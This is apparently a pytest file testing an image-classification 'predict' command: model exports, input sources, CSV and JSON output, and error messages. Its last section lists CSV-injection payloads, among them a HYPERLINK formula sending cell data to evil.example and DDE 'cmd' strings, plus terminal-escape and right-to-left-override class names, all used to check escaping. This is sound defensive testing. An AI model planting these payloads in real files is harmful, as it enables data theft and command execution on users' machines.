"""dlenv.predict: `dlenv predict` end to end on a model trained once (small_cnn, 32 px, three classes):
the checkpoint, its .safetensors and TorchScript and ONNX exports agree; every kind of --source; the CSV, JSON
lines, --tta flip and --save-images; each bad input as one line and a non-zero exit."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import sys
from pathlib import Path

import pytest
from imagedata import make_train_val, write_file

from dlenv import predict
from dlenv.cli import main as cli_main
from dlenv.options import config, predict_options

CLASSES = ["cat", "dog", "fox"]
SIZE = 32
CPU = ["--workers", "0", "--device", "cpu"]
#: |probability| by which the exports may differ from the checkpoint: the safetensors file holds the same
#: tensors (exactly equal); the TorchScript trace and onnxruntime reorder no float32 arithmetic worth more
TOLERANCE = 1e-4


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A small_cnn trained for two steps on 3 classes of 32 px images, with its three exports."""
    root = tmp_path_factory.mktemp("predict")
    make_train_val(root / "ds", per_class=4, val_per_class=2, size=(SIZE, SIZE), classes=CLASSES)
    assert cli_main(["train", "--data", str(root / "ds"), "--model", "small_cnn",
                     "--img-size", str(SIZE), "--batch-size", "4", "--epochs", "1", "--max-steps", "2",
                     "--project", str(root / "runs"), *CPU]) == 0
    best = root / "runs" / "exp" / "best_model.pth"
    for fmt in ("safetensors", "torchscript", "onnx"):
        assert cli_main(["export", "--weights", str(best), "--format", fmt, "--workers", "0"]) == 0
    return root


def _best(trained: Path) -> Path:
    return trained / "runs" / "exp" / "best_model.pth"


def _predict(tmp_path: Path, weights: Path | str, source: Path | str, *extra: str, name: str = "exp") -> Path:
    """Run `dlenv predict` into tmp_path/runs/predict/<name>; returns the CSV's path."""
    code = cli_main(["predict", "--weights", str(weights), "--source", str(source), "--project",
                     str(tmp_path / "runs" / "predict"), "--name", name, "--exist-ok", *CPU, *extra])
    assert code == 0
    return tmp_path / "runs" / "predict" / name / predict.CSV_NAME


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _by_path(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {os.path.normpath(r["path"]): r for r in rows}


def _torchscript_flags() -> list[str]:
    return ["--trust-pickle", "--classes", ",".join(CLASSES), "--img-size", str(SIZE)]


def test_checkpoint_safetensors_and_torchscript_agree(trained, tmp_path):
    val = trained / "ds" / "val"
    run = trained / "runs" / "exp"
    got = {
        "pth": _rows(_predict(tmp_path, run / "best_model.pth", val, "--topk", "3", name="pth")),
        "safetensors": _rows(_predict(tmp_path, run / "best_model.safetensors", val, "--topk", "3", name="st")),
        "torchscript": _rows(_predict(tmp_path, run / "best_model.torchscript.pt", val, "--topk", "3",
                                      *_torchscript_flags(), name="ts")),
        "onnx": _rows(_predict(tmp_path, run / "best_model.onnx", val, "--topk", "3", name="onnx")),
    }
    ref = _by_path(got["pth"])
    assert len(ref) == 2 * len(CLASSES)
    for kind in ("safetensors", "torchscript", "onnx"):
        other = _by_path(got[kind])
        assert other.keys() == ref.keys()
        for path, row in ref.items():
            assert other[path]["class_1"] == row["class_1"], (kind, path)
            probs = {row[f"class_{i}"]: float(row[f"prob_{i}"]) for i in (1, 2, 3)}
            theirs = {other[path][f"class_{i}"]: float(other[path][f"prob_{i}"]) for i in (1, 2, 3)}
            assert theirs == pytest.approx(probs, abs=TOLERANCE), (kind, path)


def test_folder_glob_and_stdin_give_the_same_predictions(trained, tmp_path, monkeypatch):
    val = trained / "ds" / "val"
    folder = _by_path(_rows(_predict(tmp_path, _best(trained), val, name="folder")))
    assert len(folder) == 6 and all(p.endswith(".png") for p in folder)  # recursive: val/<class>/*.png
    globbed = _by_path(_rows(_predict(tmp_path, _best(trained), f"{val}/*/*.png", name="glob")))
    paths = sorted(folder)
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n".join(paths[:3]) + "\n\n"))
    piped = _by_path(_rows(_predict(tmp_path, _best(trained), "-", name="stdin")))
    assert globbed == folder
    assert piped == {p: folder[p] for p in paths[:3]}


def test_csv_columns_and_topk(trained, tmp_path, capsys):
    rows_path = _predict(tmp_path, _best(trained), trained / "ds" / "val", "--topk", "2")
    with open(rows_path, newline="") as fh:
        header = next(csv.reader(fh))
    assert header == ["path", "frame", "tta", "class_1", "prob_1", "class_2", "prob_2"]
    for r in _rows(rows_path):
        assert r["frame"] == "" and r["tta"] == "none"
        assert r["class_1"] in CLASSES and r["class_2"] in CLASSES and r["class_1"] != r["class_2"]
        assert 1.0 >= float(r["prob_1"]) >= float(r["prob_2"]) >= 0.0
    # more than the model has: all three, said once
    rows = _rows(_predict(tmp_path, _best(trained), trained / "ds" / "val", "--topk", "9", name="all"))
    out = capsys.readouterr().out
    assert "--topk 9: the model has 3 classes" in out
    assert "predicting 1/1" in out and "validating" not in out  # the bar names what it does
    assert sum(float(rows[0][f"prob_{i}"]) for i in (1, 2, 3)) == pytest.approx(1.0, abs=1e-5)


def test_csv_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    out = tmp_path / predict.CSV_NAME
    preds = [predict.Prediction(f"img{i}.png", None, [("cat", 0.9)]) for i in range(3)]
    predict.write_csv(out, preds, 1, "none")
    before = out.read_bytes()
    real = predict.csv_row

    def failing(p, tta):
        if p.path == "img2.png":
            raise OSError(28, "No space left on device")
        return real(p, tta)

    monkeypatch.setattr(predict, "csv_row", failing)
    with pytest.raises(OSError):
        predict.write_csv(out, [*preds, predict.Prediction("img3.png", None, [("dog", 0.5)])], 1, "none")
    assert out.read_bytes() == before  # the old file, whole
    assert sorted(os.listdir(tmp_path)) == [predict.CSV_NAME]  # no temporary file left behind


def test_json_lines_parse_and_stdout_holds_nothing_else(trained, tmp_path, capsys):
    _predict(tmp_path, _best(trained), trained / "ds" / "val", "--json", "--topk", "2")
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert len(lines) == 6
    for line in lines:
        obj = json.loads(line)
        assert set(obj) == {"path", "frame", "tta", "top"} and obj["frame"] is None
        assert [t["class"] for t in obj["top"]] != [] and len(obj["top"]) == 2
    assert "img/s" in captured.err and "predicting" in captured.err


def test_tta_flip_changes_nothing_for_a_symmetric_image_and_is_said(trained, tmp_path):
    import numpy as np
    from PIL import Image

    rng = np.random.default_rng(3)
    half = rng.integers(0, 255, size=(SIZE, SIZE // 2, 3), dtype=np.uint8)
    img = tmp_path / "sym.png"
    Image.fromarray(np.concatenate([half, half[:, ::-1]], axis=1)).save(img)
    plain = _rows(_predict(tmp_path, _best(trained), img, "--topk", "3", name="plain"))[0]
    flip = _rows(_predict(tmp_path, _best(trained), img, "--topk", "3", "--tta", "flip", name="flip"))[0]
    assert plain["tta"] == "none" and flip["tta"] == "flip"
    assert flip["class_1"] == plain["class_1"]
    for i in (1, 2, 3):
        assert float(flip[f"prob_{i}"]) == pytest.approx(float(plain[f"prob_{i}"]), abs=1e-5)


def _write_video(path: Path, frames: int) -> Path:
    cv2 = pytest.importorskip("cv2")
    import numpy as np

    for codec in ("MJPG", "mp4v"):
        w = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*codec), 5, (48, 40))
        if w.isOpened():
            for i in range(frames):
                frame = np.zeros((40, 48, 3), np.uint8)
                frame[..., i % 3] = 255  # frame i looks like class i % 3's images
                w.write(frame)
            w.release()
            return path
    pytest.skip("this OpenCV build can write neither MJPG nor mp4v video")


def test_video_frames_every_nth(trained, tmp_path):
    video = _write_video(tmp_path / "clip.avi", 7)
    rows = _rows(_predict(tmp_path, _best(trained), video, "--vid-stride", "3", "--save-images"))
    assert [int(r["frame"]) for r in rows] == [0, 3, 6]
    assert {r["path"] for r in rows} == {str(video)}
    saved = sorted(os.listdir(tmp_path / "runs" / "predict" / "exp" / "images"))
    assert saved == ["clip_frame000000.jpg", "clip_frame000003.jpg", "clip_frame000006.jpg"]


def test_save_images_on_a_folder_writes_a_contact_sheet(trained, tmp_path, capsys):
    from PIL import Image, ImageStat

    rows = _rows(_predict(tmp_path, _best(trained), trained / "ds" / "val", "--save-images"))
    run = tmp_path / "runs" / "predict" / "exp"
    sheet = Image.open(run / "contact_sheet.jpg")
    assert sheet.size == (len(rows) * predict.CELL, predict.CELL + predict.CAPTION)  # 6 images: one row
    assert len(os.listdir(run / "images")) == len(rows) and "contact sheet contact_sheet.jpg" in capsys.readouterr().out
    # each cell holds its image, scaled up to the cell: the images of class i have channel i at 255 throughout
    for i, row in enumerate(rows):
        channel = CLASSES.index(Path(row["path"]).parent.name)
        box = (i * predict.CELL + 40, 40, i * predict.CELL + 120, 120)
        mean = ImageStat.Stat(sheet.convert("RGB").crop(box)).mean
        assert mean[channel] > 220 and min(mean) < 180, row["path"]


def test_save_images_draws_the_top_class_on_a_copy(trained, tmp_path):
    from PIL import Image

    src = trained / "ds" / "val" / "cat" / "cat_0.png"
    _predict(tmp_path, _best(trained), src, "--save-images")
    out = tmp_path / "runs" / "predict" / "exp" / "images" / "cat_0.png"
    a, b = Image.open(src).convert("RGB"), Image.open(out).convert("RGB")
    assert a.size == b.size and a.tobytes() != b.tobytes()
    assert b.getpixel((0, 0)) == (0, 0, 0)  # the label's band


def test_one_unreadable_image_is_skipped_and_said(trained, tmp_path, caplog):
    folder = tmp_path / "mixed"
    for p in sorted((trained / "ds" / "val" / "dog").iterdir()):
        write_file(folder / p.name, p.read_bytes())
    write_file(folder / "broken.png", b"not a png at all")
    rows = _rows(_predict(tmp_path, _best(trained), folder))
    assert len(rows) == 2 and not any("broken" in r["path"] for r in rows)
    assert "broken.png" in caplog.text


# ---------------------------------------------------------------------------------------------------
# Bad inputs: one line, a non-zero exit, no traceback, no predictions.csv.


def _bad_case(name: str, trained: Path, tmp: Path, monkeypatch) -> tuple[list[str], str]:
    """(arguments, a phrase of the error line) of bad input `name`."""
    best, ts = _best(trained), trained / "runs" / "exp" / "best_model.torchscript.pt"
    onnx = trained / "runs" / "exp" / "best_model.onnx"
    val = trained / "ds" / "val"
    if name == "missing source":
        return ["--weights", best, "--source", tmp / "nowhere"], "no such file or folder"
    if name == "folder without images":
        write_file(tmp / "docs" / "notes.txt", b"hello")
        return ["--weights", best, "--source", tmp / "docs"], "no images in this folder"
    if name == "every image corrupt":
        for i in range(3):
            write_file(tmp / "corrupt" / f"{i}.jpg", b"\xff\xd8 truncated")
        return ["--weights", best, "--source", tmp / "corrupt"], "none of the 3 image(s)"
    if name == "a file that is no image":
        write_file(tmp / "notes.jpg", b"hello, not a picture")
        return ["--weights", best, "--source", tmp / "notes.jpg"], "not an image format Pillow can read"
    if name == "glob without matches":
        return ["--weights", best, "--source", f"{tmp}/*.jpg"], "matches no images"
    if name == "video that cannot be opened":
        write_file(tmp / "clip.mp4", os.urandom(2048))
        return ["--weights", best, "--source", tmp / "clip.mp4"], "OpenCV cannot read a frame"
    if name == "empty stdin":
        monkeypatch.setattr(sys, "stdin", io.StringIO("\n  \n"))
        return ["--weights", best, "--source", "-"], "standard input held no paths"
    if name == "weights of another kind":
        write_file(tmp / "results.csv", b"epoch,loss\n1,0.5\n")
        return ["--weights", tmp / "results.csv", "--source", val], "not a PyTorch weights file"
    if name == "missing weights":
        return ["--weights", tmp / "none.pth", "--source", val], "not found"
    if name == "onnx file that is none":
        write_file(tmp / "model.onnx", b"\x08\x07")
        return ["--weights", tmp / "model.onnx", "--source", val], "is not an ONNX model onnxruntime can load"
    if name == "onnx file of another input size":
        return ["--weights", onnx, "--source", val, "--img-size", "48"], "takes 32x32 images"
    if name == "onnx file of another class count than asked":
        return ["--weights", onnx, "--source", val, "--classes", "a,b"], "names 2 classes but"
    if name == "torchscript without consent":
        return ["--weights", ts, "--source", val, "--classes", "a,b,c", "--img-size", "32"], "--trust-pickle"
    if name == "torchscript without classes":
        return ["--weights", ts, "--source", val, "--trust-pickle", "--img-size", "32"], "--classes"
    if name == "torchscript of another class count":
        return ["--weights", ts, "--source", val, *_torchscript_flags()[:1], "--classes", "a,b",
                "--img-size", "32"], "names 2 classes but"
    if name == "checkpoint of another class count than asked":
        return ["--weights", best, "--source", val, "--classes", "a,b"], "names 2 classes but"
    if name == "classes other than the checkpoint's":
        return ["--weights", best, "--source", val, "--classes", "a,b,c"], "differs from the class names"
    raise AssertionError(name)


BAD = ["missing source", "folder without images", "every image corrupt", "a file that is no image",
       "glob without matches", "video that cannot be opened", "empty stdin", "weights of another kind",
       "missing weights",
       "onnx file that is none", "onnx file of another input size", "onnx file of another class count than asked",
       "torchscript without consent", "torchscript without classes", "torchscript of another class count",
       "checkpoint of another class count than asked", "classes other than the checkpoint's"]


@pytest.mark.parametrize("case", BAD)
def test_bad_input_is_one_line_and_nonzero(case, trained, tmp_path, monkeypatch, capsys):
    args, phrase = _bad_case(case, trained, tmp_path, monkeypatch)
    project = tmp_path / "runs" / "predict"
    code = cli_main(["predict", *map(str, args), "--project", str(project), *CPU])
    err = capsys.readouterr().err
    assert code == 2, err
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if line.startswith("dlenv predict: error:")]
    assert len(errors) == 1 and phrase in errors[0], err
    assert not project.exists()  # nothing written, not even the run folder


# ---------------------------------------------------------------------------------------------------
# The options.


def test_predict_shares_the_other_commands_bounds_and_consent():
    assert predict_options.IMG_SIZE_MAX == config.IMG_SIZE_MAX
    assert predict_options.BATCH_MAX == config.BATCH_MAX
    fields = {f.name: f for f in dataclasses.fields(config.PredictConfig)}
    val = {f.name: f for f in dataclasses.fields(config.ValConfig)}
    for name in ("trust_pickle", "device", "img_size", "batch_size", "model"):
        assert fields[name].default == val[name].default
        assert {k: v for k, v in fields[name].metadata.items() if k not in ("parse", "here")} == \
               {k: v for k, v in val[name].metadata.items() if k not in ("parse", "here")}, name
    assert config.COMMANDS["predict"].config is config.PredictConfig


@pytest.mark.parametrize("value,expected", [("cat, dog,fox", ("cat", "dog", "fox")), (["a", "b"], ("a", "b"))])
def test_classes_parse(value, expected):
    assert predict_options.class_list(value) == expected


@pytest.mark.parametrize("value", ["a,,b", "a,b,a", ""])
def test_classes_refuse_empty_and_repeated_names(value):
    with pytest.raises(ValueError):
        predict_options.class_list(value)


def test_a_few_images_are_answered_on_the_terminal_and_leave_no_run_folder(trained, tmp_path, monkeypatch, capsys):
    """One image, then two, at the default place: each answer printed, no runs/predict/expN (docs/predict.md)."""
    monkeypatch.chdir(tmp_path)
    images = sorted((trained / "ds" / "val").rglob("*.png"))
    for source in (images[0], images[0], trained / "ds" / "val" / "cat"):
        assert cli_main(["predict", "--weights", str(_best(trained)), "--source", str(source), *CPU]) == 0
        out = capsys.readouterr().out.splitlines()
        answers = [line for line in out if line.startswith("  ")]
        shown = [images[0]] if source == images[0] else sorted((trained / "ds" / "val" / "cat").glob("*.png"))
        assert len(answers) == len(shown), out
        for line, path in zip(answers, shown, strict=True):
            name, rest = line.split()[0], line.split()[1:]
            assert name == str(path) and rest[0] in CLASSES and rest[1].endswith("%"), line
        assert out[-1].startswith("no run folder for "), out[-1]
    assert not (tmp_path / "runs").exists()


@pytest.mark.parametrize("given, n, video, keeps", [
    ({}, 1, False, False),
    ({}, predict.SHOWN, False, False),
    ({}, predict.SHOWN + 1, False, True),   # many: the CSV holds them
    ({}, 1, True, True),                    # a video's frames
    ({"save_images": True}, 1, False, True),
    ({"name": "mine"}, 1, False, True),
    ({"project": "elsewhere"}, 1, False, True),
    ({"exist_ok": True}, 1, False, True),
])
def test_when_predict_keeps_a_run_folder(given, n, video, keeps):
    cfg = config.build(predict_options.PredictConfig, **given)
    assert predict.keeps_run(cfg, n, video) is keeps


def test_many_images_go_to_the_csv_not_the_terminal(trained, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    source = tmp_path / "many"
    for i, path in enumerate(sorted((trained / "ds").rglob("*.png"))[: predict.SHOWN + 1]):
        write_file(source / f"{i}.png", path.read_bytes())
    assert cli_main(["predict", "--weights", str(_best(trained)), "--source", str(source), *CPU]) == 0
    out = capsys.readouterr().out.splitlines()
    assert not [line for line in out if line.startswith("  ")]
    assert len(_rows(tmp_path / "runs" / "predict" / "exp" / predict.CSV_NAME)) == predict.SHOWN + 1


# ---------------------------------------------------------------------------------------------------
# A class name or a file name that a spreadsheet would run as a formula (issue 43; OWASP "CSV Injection")

FORMULAS = [  # (text from a file or a folder, the cell predictions.csv holds)
    ('=HYPERLINK("http://evil.example/?x="&A1,"open")', '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-1", "-1"),        # a class named by a number stays that number
    ("+3.5", "+3.5"),
    ("cat", "cat"),
    ("a=b", "a=b"),      # not at the start: no formula
]


@pytest.mark.parametrize("text, cell", FORMULAS, ids=[f"case{i}" for i in range(len(FORMULAS))])
def test_no_cell_of_the_reports_starts_a_formula(tmp_path, text, cell):
    p = predict.Prediction(path=text, frame=None, top=[(text, 0.9), ("dog", 0.1)])
    predict.write_csv(tmp_path / "predictions.csv", [p], 2, "none")
    with open(tmp_path / "predictions.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0] == cell and rows[1][3] == cell and rows[1][5] == "dog"
    from dlenv.evaluate import _csv_bytes

    val = list(csv.reader(io.StringIO(_csv_bytes(["class", text], [[text, 1]]).decode(), newline="")))
    assert val == [["class", cell], [cell, "1"]]  # val's per_class, confusion_matrix and errors CSVs alike


#: class names a model's metadata or a dataset's folders can carry, and how they print (as train's report prints them)
HOSTILE_NAMES = [
    ("an OSC title escape", "cat\x1b]0;pwned\x07", "cat\\x1b]0;pwned\\x07"),
    ("a CSI that clears the screen", "\x1b[2J\x1b[Hdog", "\\x1b[2J\\x1b[Hdog"),
    ("a newline that fakes a line", "fox\n  other.png  cat 100.0%", "fox\\n  other.png  cat 100.0%"),
    ("a carriage return", "cat\rdog", "cat\\rdog"),
    ("U+202E, right-to-left override", "\u202egnp.exe", "\\u202egnp.exe"),
    ("a C1 control (CSI in one byte)", "cat\x9b2J", "cat\\x9b2J"),
    ("a plain accented name", "chat_tigré", "chat_tigré"),
]


@pytest.mark.parametrize("name, shown", [h[1:] for h in HOSTILE_NAMES], ids=[h[0] for h in HOSTILE_NAMES])
def test_class_names_print_escaped_as_train_prints_them(name, shown):
    from dlenv.data.report import _printable

    assert _printable(name) == shown  # train's data report
    lines = predict.answer_lines([predict.Prediction("a.png", None, [(name, 0.9), (name, 0.1)])])
    assert lines == [f"  a.png  {shown} 90.0%  (then {shown} 10.0%)"]


def test_the_answer_lines_list_every_class_of_the_topk():
    """--topk 5 on a 4-class model says all 4 are listed: the line lists all 4, not the best two."""
    top = [("a", 0.6), ("b", 0.25), ("c", 0.1), ("d", 0.05)]
    (line,) = predict.answer_lines([predict.Prediction("x.png", None, top)])
    assert line == "  x.png  a 60.0%  (then b 25.0%, c 10.0%, d 5.0%)"


def test_an_onnx_files_hostile_class_names_reach_the_terminal_escaped(trained, tmp_path, monkeypatch, capsys):
    import shutil

    from dlenv.files import onnxmodel

    onnx_file = tmp_path / "m.onnx"
    shutil.copy(_best(trained).with_suffix(".onnx"), onnx_file)
    names = [h[1] for h in HOSTILE_NAMES[:3]]
    onnxmodel.write_metadata(onnx_file, onnxmodel.metadata(names, SIZE, None, "bilinear"))
    monkeypatch.chdir(tmp_path)
    image = sorted((trained / "ds" / "val").rglob("*.png"))[0]
    assert cli_main(["predict", "--weights", str(onnx_file), "--source", str(image), "--topk", "3", *CPU]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    answers = [line for line in out.splitlines() if line.startswith("  ")]
    assert len(answers) == 1 and any(h[2] in answers[0] for h in HOSTILE_NAMES[:3]), out  # no faked line


@pytest.mark.parametrize("name, q, want", [
    ("cat", 0.87, "cat  87%"),
    ("golden_retriever", 0.5, "golden_retriever  50%"),              # 16 characters: whole
    ("golden_retriever_puppy", 1.0, "golden_retrie...  100%"),        # cut, and the cut is shown
    ("a\x1b[2Jb", 0.05, "a\\x1b[2Jb  5%"),                            # printable, as the answer lines
])
def test_contact_sheet_caption_keeps_class_and_probability_apart(name, q, want):
    assert predict.caption(name, q) == want
